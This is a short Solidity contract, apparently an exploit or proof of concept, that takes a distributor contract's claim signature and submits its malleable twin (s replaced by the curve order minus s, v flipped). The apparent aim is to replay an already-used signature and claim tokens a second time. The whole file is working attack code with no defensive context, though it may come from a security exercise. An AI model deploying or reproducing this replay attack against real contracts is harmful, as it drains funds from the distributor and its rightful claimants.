// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

interface IDistributor {
    function claim(address to, uint256 amount, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external;
}

contract Reclaimer {
    uint256 private constant N = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141;

    /// The other signature of the same message: (r, n - s) with the parity flipped.
    function run(IDistributor d, address to, uint256 amount, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        d.claim(to, amount, deadline, v == 27 ? 28 : 27, r, bytes32(N - uint256(s)));
    }
}
